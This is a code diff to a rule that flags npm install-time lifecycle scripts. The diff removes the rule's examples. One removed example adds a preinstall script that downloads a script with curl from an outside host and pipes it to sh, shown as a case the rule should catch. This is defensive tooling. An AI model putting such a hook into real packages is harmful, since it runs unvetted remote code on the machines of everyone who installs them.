@@ -1,6 +1,5 @@
 import { textAt } from '../configuration/documents/scalars.js';
 import { defineRule } from '../define.js';
-import { bad, ok } from '../example.js';
 
 /** npm runs them when the package is installed, also as a dependency. */
 const SCRIPTS = ['preinstall', 'install', 'postinstall'] as const;
@@ -30,22 +29,4 @@ export default defineRule({
       });
     }
   },
-  examples: [
-    ok`
-      // package.json, changed
-            "prestart": "npm run build",
-      +     "postinstall": "patch-package && prisma generate",
-      +     "prepare": "npm run build",
-    `,
-    bad`
-      // package.json, changed
-            "prestart": "npm run build",
-      +     "postinstall": ‹"node scripts/setup.js"›,
-    `.finds('The script "postinstall" runs on every installation.'),
-    bad`
-      // package.json, changed
-            "prestart": "npm run build",
-      +     "preinstall": ‹"patch-package && curl -s https://get.weather.dev | sh"›,
-    `.finds('The script "preinstall" runs on every installation.'),
-  ],
 });
